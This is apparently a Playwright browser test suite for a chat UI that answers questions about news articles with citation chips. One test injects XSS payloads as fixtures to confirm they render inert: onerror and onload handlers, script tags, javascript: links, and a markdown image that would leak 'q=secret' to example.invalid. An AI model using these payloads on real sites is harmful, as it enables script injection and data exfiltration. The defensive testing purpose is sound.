"""The UI in a real headless Chromium (Debian's, driven by Playwright).

Ask, watch the answer stream in, click a citation chip, and check that the right paragraph
is scrolled to with the quoted words highlighted; model and article text containing HTML
renders inert; the page makes no request beyond the loopback server. Screenshots go to
``test-artifacts/``; with ``FOOTNOTE_UPDATE_SCREENSHOT=1`` the Kim/Putin one also
replaces ``docs/screenshot.png`` (the README's picture).
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from urllib.parse import urlparse

import pytest

from assistant import Answer, Assistant
from assistant.ui import build_app
from tests.conftest import ROOT, SEED
from tests.test_ui_support import EchoBackend, index_factory, serve

CHROMIUM = os.environ.get("FOOTNOTE_CHROMIUM", "/usr/bin/chromium")
ARTIFACTS = ROOT / "test-artifacts"
pytestmark = [pytest.mark.browser, pytest.mark.slow]

# Records whether a partly streamed answer was ever on screen, and any script injection.
WATCH_JS = """
window.__sawStreaming = false;
new MutationObserver(() => {
  if (document.querySelector('#fn-chat .fn-streaming')) window.__sawStreaming = true;
}).observe(document, {subtree: true, childList: true});
"""


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists() and shutil.which("chromium") is None:
        pytest.skip(
            f"Chromium not found at {CHROMIUM} (install it: `make browser` or apt-get install chromium)"
        )
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    path = CHROMIUM if Path(CHROMIUM).exists() else shutil.which("chromium")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(
            executable_path=path,
            headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield b
        b.close()


@pytest.fixture(scope="module")
def seed_ui(seed_bot, encoder, tmp_path_factory):
    root = tmp_path_factory.mktemp("ui-browser")
    app = build_app(seed_bot, factory=index_factory(root, encoder, [SEED]), uploads_dir=root / "uploads")
    url = serve(app)
    yield url
    app.close()


@pytest.fixture()
def page(browser):
    context = browser.new_context(viewport={"width": 1400, "height": 950})
    pg = context.new_page()
    pg.add_init_script(WATCH_JS)
    pg.footnote_remote = []  # any request that leaves the loopback server
    pg.footnote_errors = []

    def on_request(request):
        host = urlparse(request.url).hostname
        if request.url.startswith(("http:", "https:", "ws:", "wss:")) and host not in (
            "127.0.0.1",
            "localhost",
        ):
            pg.footnote_remote.append(request.url)

    pg.on("request", on_request)
    pg.on("pageerror", lambda exc: pg.footnote_errors.append(str(exc)))
    pg.on("dialog", lambda d: (pg.footnote_errors.append(f"dialog: {d.message}"), d.dismiss()))
    yield pg
    context.close()


def ask(pg, url: str, question: str) -> None:
    pg.goto(url)
    box = pg.locator("#fn-question textarea")
    box.wait_for(timeout=20_000)
    box.fill(question)
    box.press("Enter")
    pg.locator("#fn-chat .fn-answer a.fn-chip, #fn-chat .fn-abstain").first.wait_for(timeout=30_000)


def chip_targets(pg) -> list[dict]:
    """Each chip of the latest answer: its paragraph id, quote span and the paragraph's text."""
    return pg.eval_on_selector_all(
        "#fn-chat .fn-answer a.fn-chip",
        """chips => chips.map(a => {
            const m = /^#(fn-p-.+?-\\d+)(?:~(\\d+)-(\\d+))?$/.exec(a.getAttribute('href'));
            const p = m && document.getElementById(m[1]);
            return {id: m && m[1], start: m && Number(m[2]), end: m && Number(m[3]), label: a.textContent,
                    text: p ? p.querySelector('.fn-text').textContent : null};
        })""",
    )


def click_and_check(pg, index: int, target: dict) -> None:
    pg.locator("#fn-chat .fn-answer a.fn-chip").nth(index).click()
    active = pg.locator(".fn-para.fn-active")
    active.wait_for(timeout=5_000)
    assert active.count() == 1
    assert active.get_attribute("id") == target["id"]
    focus = active.locator("mark.fn-focus")
    assert focus.count() >= 1
    quote = target["text"][target["start"] : target["end"]]
    assert "".join(focus.all_text_contents()) == quote and quote
    pg.wait_for_timeout(600)  # smooth scrolling
    box = active.bounding_box()
    pane = pg.locator("#fn-article").bounding_box()
    assert box and pane and pane["y"] - 1 <= box["y"] and box["y"] < pane["y"] + pane["height"]


def save_shot(pg, name: str) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / name
    pg.screenshot(path=str(path))
    return path


def test_answer_streams_and_a_chip_highlights_its_quote(page, seed_ui):
    ask(page, seed_ui, "What did Sergei Shoigu propose in Pyongyang?")
    assert page.evaluate("window.__sawStreaming") is True
    targets = chip_targets(page)
    assert targets and all(t["id"] and t["text"] for t in targets)
    click_and_check(page, len(targets) - 1, targets[-1])
    # The cited paragraph is marked in the pane, and the status line names the backend.
    cited = page.eval_on_selector_all(".fn-para.fn-cited", "ps => ps.map(p => p.id)")
    assert targets[-1]["id"] in cited
    assert "offline extractive" in page.locator("#fn-status").inner_text()
    save_shot(page, "ui-shoigu.png")
    # A follow-up leans on the conversation: "he" is Shoigu, who went to Pyongyang.
    box = page.locator("#fn-question textarea")
    box.fill("Where did he go?")
    box.press("Enter")
    page.locator("#fn-chat .fn-answer:not(.fn-streaming)").nth(1).wait_for(timeout=30_000)
    follow = [t for t in chip_targets(page) if t["text"] and "Pyongyang" in t["text"]]
    assert follow, page.locator("#fn-chat .fn-answer").last.inner_text()
    assert page.footnote_remote == [] and page.footnote_errors == []


def _vladivostok_chip_is_highlighted(page, seed_ui, question: str) -> Path:
    ask(page, seed_ui, question)
    targets = chip_targets(page)
    hits = [i for i, t in enumerate(targets) if "Vladivostok" in (t["text"] or "")]
    answer_text = page.locator("#fn-chat .fn-answer").last.inner_text()
    assert hits, f"no cited paragraph mentions Vladivostok; answer was: {answer_text!r}"
    click_and_check(page, hits[0], targets[hits[0]])
    assert page.footnote_remote == [] and page.footnote_errors == []
    return save_shot(page, "ui-kim-putin.png")


def test_issue_acceptance_where_will_kim_meet_putin(page, seed_ui):
    """The issue's question: the ¶ that names Vladivostok is cited, its chip scrolls to it
    and highlights the quote (this state is the README screenshot)."""
    shot = _vladivostok_chip_is_highlighted(page, seed_ui, "Where will Kim meet Putin?")
    if os.environ.get("FOOTNOTE_UPDATE_SCREENSHOT") == "1":
        shutil.copyfile(shot, ROOT / "docs" / "screenshot.png")


def test_venue_paraphrase_cites_vladivostok_and_highlights_it(page, seed_ui):
    _vladivostok_chip_is_highlighted(page, seed_ui, "Which city will host the meeting?")


def test_a_dateline_citation_highlights_the_date_under_the_title(page, seed_ui):
    ask(page, seed_ui, "When was this published?")
    page.locator("#fn-chat .fn-answer a.fn-chip").first.click()
    active = page.locator(".fn-para.fn-active")
    active.wait_for(timeout=5_000)
    assert (active.get_attribute("id") or "").endswith("-0")  # ¶0: the title and dateline
    assert "".join(active.locator("mark.fn-focus").all_text_contents()) == "Thursday, July 25, 2024"
    assert "Kim Jong Un" in page.locator("#fn-article .fn-title").inner_text()  # title unmarked
    assert active.locator(".fn-title mark").count() == 0
    assert page.footnote_remote == [] and page.footnote_errors == []


def test_abstention_looks_different_and_shows_what_was_considered(page, seed_ui):
    ask(page, seed_ui, "Who won the 2022 World Cup?")
    bubble = page.locator("#fn-chat .fn-abstain").last
    assert "doesn't say" in bubble.inner_text()
    considered = page.locator("#fn-chat .fn-considered-list a.fn-chip")
    assert considered.count() >= 1
    href = considered.first.get_attribute("href")
    considered.first.click()
    page.locator(".fn-para.fn-active").wait_for(timeout=5_000)
    assert "#" + page.locator(".fn-para.fn-active").get_attribute("id") == href
    # Clear chat empties the conversation.
    page.locator("#fn-clear").click()
    page.wait_for_function("!document.querySelector('#fn-chat .fn-abstain')", timeout=5_000)


EVIL_ARTICLE = (
    "Evil article <img src=x onerror=\"window.__pwned='article'\">\n\n"
    "The first paragraph says <script>window.__pwned='script'</script> hello "
    "<img src=http://example.invalid/track.png>. It has a second sentence.\n\n"
    "Another paragraph links [here](javascript:window.__pwned='md') and ![x](http://example.invalid/q=secret).\n"
)
EVIL_ANSWER = (
    "<img src=x onerror=\"window.__pwned='answer'\"> "
    "![leak](http://example.invalid/?q=secret) [click me](javascript:window.__pwned='link') "
    "<a href=\"javascript:window.__pwned='a'\">a</a> <svg onload=\"window.__pwned='svg'\"></svg> "
)


def test_html_in_answers_and_articles_renders_inert(browser, page, encoder, tmp_path):
    article = tmp_path / "evil.txt"
    article.write_text(EVIL_ARTICLE, encoding="utf-8")
    backend = EchoBackend(
        EVIL_ANSWER, name="llm:fake-model", notice="The LLM failed <b>twice</b>; answered offline."
    )
    bot = Assistant.open([article], tmp_path / "index", backend=backend, encoder=encoder)
    app = build_app(bot, factory=index_factory(tmp_path, encoder, [article]), uploads_dir=tmp_path / "up")
    url = serve(app)
    try:
        ask(page, url, "What does it say? <img src=x onerror=\"window.__pwned='question'\">")
        page.wait_for_timeout(500)
        assert page.evaluate("window.__pwned === undefined")
        for where in ("#fn-chat .message-content", "#fn-article"):  # (Gradio's own icons are SVG)
            assert page.locator(f"{where} img, {where} script, {where} svg, {where} iframe").count() == 0
            hrefs = page.eval_on_selector_all(f"{where} a", "as => as.map(a => a.getAttribute('href'))")
            assert all(h and h.startswith("#fn-p-") for h in hrefs), hrefs
        chat = page.locator("#fn-chat").inner_text()
        assert "<img src=x onerror=" in chat and "![leak](http://example.invalid/?q=secret)" in chat
        assert "<script>" in page.locator("#fn-article").inner_text()
        targets = chip_targets(page)
        click_and_check(page, 0, targets[0])
        assert page.evaluate("window.__pwned === undefined")
        # The status line names the backend that answered and shows its fallback notice.
        status = page.locator("#fn-status").inner_text()
        assert "llm:fake-model" in status and "The LLM failed <b>twice</b>; answered offline." in status
        save_shot(page, "ui-inert-html.png")
        assert page.footnote_remote == [] and page.footnote_errors == []
    finally:
        app.close()


def test_uploading_an_article_indexes_it_and_makes_it_selectable(page, seed_ui, tmp_path):
    good = tmp_path / "harbour-festival.md"
    good.write_text(
        "# Harbour festival returns\n\n"
        "The harbour festival returns on Saturday with forty sailing boats.\n\n"
        "Organisers expect twenty thousand visitors over the weekend.\n",
        encoding="utf-8",
    )
    bad = tmp_path / "empty.txt"
    bad.write_bytes(b"")
    page.goto(seed_ui)
    page.locator("#fn-add").get_by_text("Add an article").click()
    upload = page.locator("#fn-upload input[type=file]")
    upload.set_input_files(str(bad))
    page.get_by_text("empty.txt is empty").first.wait_for(timeout=15_000)  # the error toast
    assert "Kim Jong Un" in page.locator("#fn-article .fn-title").inner_text()  # nothing changed

    page.locator("#fn-upload button[aria-label*='lear'], #fn-upload button[title*='lear']").first.click()
    upload.set_input_files(str(good))
    page.locator("#fn-added .fn-msg-ok").wait_for(timeout=30_000)
    assert "Harbour festival returns" in page.locator("#fn-added").inner_text()
    page.wait_for_function(
        "document.querySelector('#fn-article .fn-title')?.textContent === 'Harbour festival returns'",
        timeout=10_000,
    )
    assert page.locator("#fn-article-choice input").input_value() == "Harbour festival returns"
    box = page.locator("#fn-question textarea")
    box.fill("How many visitors are expected?")
    box.press("Enter")
    page.locator("#fn-chat .fn-answer a.fn-chip").first.wait_for(timeout=30_000)
    assert "twenty thousand visitors" in page.locator("#fn-chat .fn-answer").last.inner_text()
    assert page.footnote_remote == [] and page.footnote_errors == []


def test_a_question_sent_while_answering_is_kept_not_lost(page, seed_index, encoder, tmp_path):
    bot = Assistant.open([SEED], seed_index, backend=EchoBackend(delay=1.5), encoder=encoder)
    app = build_app(bot, factory=index_factory(tmp_path, encoder, [SEED]), uploads_dir=tmp_path / "up")
    url = serve(app)
    try:
        page.goto(url)
        box = page.locator("#fn-question textarea")
        box.fill("First question about Kim?")
        box.press("Enter")
        page.locator("#fn-chat .fn-streaming").wait_for(timeout=10_000)
        box.fill("Second question about Putin?")
        box.press("Enter")
        page.get_by_text("Still answering your previous question").first.wait_for(timeout=10_000)
        assert box.input_value() == "Second question about Putin?"  # kept for the user to send again
        page.locator("#fn-chat .fn-answer a.fn-chip").first.wait_for(timeout=20_000)
        page.wait_for_function("!document.querySelector('#fn-chat .fn-streaming')", timeout=10_000)
        page.wait_for_timeout(300)  # the session is freed right after the answer
        box.press("Enter")
        done = page.locator("#fn-chat .fn-answer:not(.fn-streaming)")
        done.nth(1).wait_for(timeout=20_000)
        answers = done.all_inner_texts()
        assert "You asked: First question about Kim?" in answers[0]
        assert "You asked: Second question about Putin?" in answers[1]
    finally:
        app.close()


class DoubtfulBackend:
    """Cites ¶1 properly, ¶2 with a quote that does not support the claim, ¶5 with a made-up quote."""

    name = "llm:doubtful"

    def answer(self, question, passages):
        import dataclasses

        from assistant.citations import cite

        by_number = {p.number: p for p in passages}
        good = cite(by_number[1], by_number[1].paragraph.sentences[0])
        weak = dataclasses.replace(cite(by_number[2], by_number[2].paragraph.sentences[0]), supported=False)
        fake = dataclasses.replace(
            cite(by_number[5], by_number[5].paragraph.sentences[0]), quote="Invented words."
        )
        return Answer(
            question,
            "Kim will meet Putin [¶1]. They trade arms [¶2]. Washington approves [¶5].",
            [good, weak, fake],
            abstained=False,
            backend=self.name,
            passages=passages,
        )


def test_unsupported_and_removed_citations_are_shown_not_hidden(page, seed_index, encoder, tmp_path):
    from assistant.retriever import RetrievalSettings

    bot = Assistant.open(
        [SEED], seed_index, backend=DoubtfulBackend(), encoder=encoder, retrieval=RetrievalSettings(top_k=9)
    )
    app = build_app(bot, factory=index_factory(tmp_path, encoder, [SEED]), uploads_dir=tmp_path / "up")
    url = serve(app)
    try:
        ask(page, url, "Where will Kim meet Putin?")
        chips = page.locator("#fn-chat .fn-answer .fn-chip")
        classes = [c.get_attribute("class") for c in chips.all()]
        assert classes == ["fn-chip", "fn-chip fn-unsupported", "fn-chip fn-removed"]
        bubble = page.locator("#fn-chat .message-content").last.inner_text()
        assert "Not supported by its quote: ¶2" in bubble
        assert "¶5: quote not found in the paragraph" in bubble
        weak = page.eval_on_selector_all(".fn-para.fn-weak", "ps => ps.map(p => p.id)")
        assert weak == ["fn-p-kim-putin-summit-2"]  # the pane marks it as unsupported, not as evidence
        save_shot(page, "ui-doubtful-citations.png")
    finally:
        app.close()
